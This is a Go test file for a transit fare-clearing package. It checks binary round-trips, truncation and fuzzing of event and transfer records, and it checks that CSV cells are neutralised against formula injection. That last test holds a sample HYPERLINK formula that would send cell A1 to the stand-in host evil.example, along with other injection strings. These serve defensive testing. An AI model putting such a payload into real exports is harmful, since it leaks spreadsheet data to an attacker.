package clearing

import (
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/faregate/faregate/fare"
)

func TestRecordsRoundTrip(t *testing.T) {
	at := time.Date(2026, 11, 21, 8, 0, 0, 5, time.UTC)
	for _, c := range []struct {
		name    string
		rec     EventRecord
		version byte
	}{
		{"flat fare", EventRecord{ApplyIndex: 7, Fare: 250, AppliedAt: at, Raw: []byte{1, 2, 3}}, recordVersion},
		{"priced", EventRecord{ApplyIndex: 8, Fare: 40, Postings: []Posting{{"bus", 180}, {"metro", -140}}, AppliedAt: at, Raw: []byte{4}}, eventRecordPostings},
		{"unpriced", EventRecord{ApplyIndex: 9, Postings: []Posting{{"bus", 0}}, Unpriced: `unknown stop "bus-s99"`, AppliedAt: at, Raw: []byte{5, 6}}, eventRecordUnpriced},
	} {
		b, err := c.rec.MarshalBinary()
		if err != nil || b[0] != c.version {
			t.Fatalf("%s: encoded as version %d, %v; want %d", c.name, b[0], err, c.version)
		}
		var e2 EventRecord
		if err := e2.UnmarshalBinary(b); err != nil || e2.ApplyIndex != c.rec.ApplyIndex || e2.Fare != c.rec.Fare || !e2.AppliedAt.Equal(at) ||
			string(e2.Raw) != string(c.rec.Raw) || e2.Unpriced != c.rec.Unpriced || len(e2.Postings) != len(c.rec.Postings) {
			t.Fatalf("%s: round trip %+v, %v", c.name, e2, err)
		}
		for i, p := range c.rec.Postings {
			if e2.Postings[i] != p {
				t.Fatalf("%s: posting %d %+v, want %+v", c.name, i, e2.Postings[i], p)
			}
		}
	}
	if _, err := (&EventRecord{Unpriced: "why", AppliedAt: at}).MarshalBinary(); err == nil {
		t.Fatal("an unpriced record without its postings encoded")
	}
	long := EventRecord{Postings: []Posting{{"bus", 0}}, Unpriced: string(make([]byte, 5000)), AppliedAt: at}
	b, _ := long.MarshalBinary()
	var e3 EventRecord
	if err := e3.UnmarshalBinary(b); err != nil || len(e3.Unpriced) != maxUnpricedReason {
		t.Fatalf("a long reason: kept %d bytes, %v; want the first %d", len(e3.Unpriced), err, maxUnpricedReason)
	}
	// Cut at a character's edge: "ü" is two bytes, the cut would split one.
	long.Unpriced = "x" + strings.Repeat("ü", maxUnpricedReason)
	b, _ = long.MarshalBinary()
	if err := e3.UnmarshalBinary(b); err != nil || !utf8.ValidString(e3.Unpriced) || len(e3.Unpriced) != maxUnpricedReason-1 {
		t.Fatalf("a long reason of two-byte characters: kept %d bytes, valid %v, %v", len(e3.Unpriced), utf8.ValidString(e3.Unpriced), err)
	}
	tr := Transfer{Seq: 3, ID: fare.NewEventID(at), Debit: "passenger/card/x", Credit: "operator/metro", Amount: 250, Operator: "metro", ApplyIndex: 7, At: at}
	b, _ = tr.MarshalBinary()
	var tr2 Transfer
	if err := tr2.UnmarshalBinary(b); err != nil || tr2 != (Transfer{Seq: 3, ID: tr.ID, Debit: tr.Debit, Credit: tr.Credit, Amount: 250, Operator: "metro", ApplyIndex: 7, At: tr2.At}) || !tr2.At.Equal(at) {
		t.Fatalf("transfer round trip: %+v, %v", tr2, err)
	}
	for n := range len(b) {
		if err := tr2.UnmarshalBinary(b[:n]); err == nil {
			t.Fatalf("transfer truncated to %d bytes decoded", n)
		}
	}
}

func FuzzTransferRecord(f *testing.F) {
	tr := Transfer{Seq: 1, Debit: "a", Credit: "b", Operator: "c", At: time.Unix(0, 0)}
	b, _ := tr.MarshalBinary()
	f.Add(b)
	f.Fuzz(func(t *testing.T, b []byte) {
		var tr Transfer
		if tr.UnmarshalBinary(b) != nil {
			return
		}
		again, err := tr.MarshalBinary()
		if err != nil || string(again) != string(b) {
			t.Fatalf("re-encoding differs")
		}
	})
}

func FuzzEventRecord(f *testing.F) {
	for _, e := range []EventRecord{
		{ApplyIndex: 1, Raw: []byte("x"), AppliedAt: time.Unix(0, 0)},
		{ApplyIndex: 2, Postings: []Posting{{"bus", 180}}, Raw: []byte("y"), AppliedAt: time.Unix(0, 0)},
		{ApplyIndex: 3, Postings: []Posting{{"bus", 0}}, Unpriced: "unknown stop", Raw: []byte("z"), AppliedAt: time.Unix(0, 0)},
	} {
		b, _ := e.MarshalBinary()
		f.Add(b)
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		var e EventRecord
		if e.UnmarshalBinary(b) != nil {
			return
		}
		again, err := e.MarshalBinary()
		if err != nil || string(again) != string(b) {
			t.Fatalf("re-encoding differs: %v\n%x\n%x", err, b, again)
		}
	})
}

// TestCSVCellFormula: a cell a spreadsheet would read as a formula (a
// reason or gate a terminal signed) is neutralised; numbers stay numbers.
func TestCSVCellFormula(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://evil.example/?x="&A1,"click")`: `'=HYPERLINK("http://evil.example/?x="&A1,"click")`,
		"-2-3":       "'-2-3",
		"+1+2":       "'+1+2",
		"@SUM(A1)":   "'@SUM(A1)",
		"\tcmd":      "'\tcmd",
		"\rcmd":      "'\rcmd",
		"-0.08":      "-0.08",
		"-180":       "-180",
		"+5":         "+5",
		"gate-3":     "gate-3",
		"":           "",
		"'=already":  "'=already",
		"metro-s01":  "metro-s01",
		"2026-12-02": "2026-12-02",
	} {
		if got := csvCell(in); got != want {
			t.Errorf("csvCell(%q) = %q, want %q", in, got, want)
		}
	}
}
